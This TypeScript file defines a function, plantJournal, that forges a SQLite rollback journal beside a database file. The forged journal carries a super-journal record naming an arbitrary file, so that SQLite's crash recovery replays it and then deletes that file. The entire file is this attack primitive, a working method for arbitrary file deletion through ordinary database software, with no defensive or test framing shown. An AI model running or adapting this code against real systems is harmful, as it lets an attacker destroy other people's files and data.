import { statSync, writeFileSync } from "node:fs";

/**
 * Puts a journal beside a database that SQLite takes for that of a dead writer: SQLite plays it back and then
 * removes the file `superJournal`, if the process may remove it.
 */
export function plantJournal(database: string, superJournal: string): void {
  const sector = Buffer.alloc(512);
  Buffer.from("d9d505f920a163d7", "hex").copy(sector);
  const pageSize = 4096;
  sector.writeUInt32BE(0, 8); // records
  sector.writeUInt32BE(1, 12); // nonce
  sector.writeUInt32BE(statSync(database).size / pageSize, 16);
  sector.writeUInt32BE(512, 20);
  sector.writeUInt32BE(pageSize, 24);
  const name = Buffer.from(superJournal);
  const record = Buffer.alloc(4 + name.length + 16);
  record.writeUInt32BE(0x40000000 / pageSize + 1, 0);
  name.copy(record, 4);
  record.writeUInt32BE(name.length, 4 + name.length);
  record.writeUInt32BE(
    name.reduce((sum, byte) => sum + byte, 0),
    8 + name.length,
  );
  Buffer.from("d9d505f920a163d7", "hex").copy(record, 12 + name.length);
  writeFileSync(`${database}-journal`, Buffer.concat([sector, record]));
}
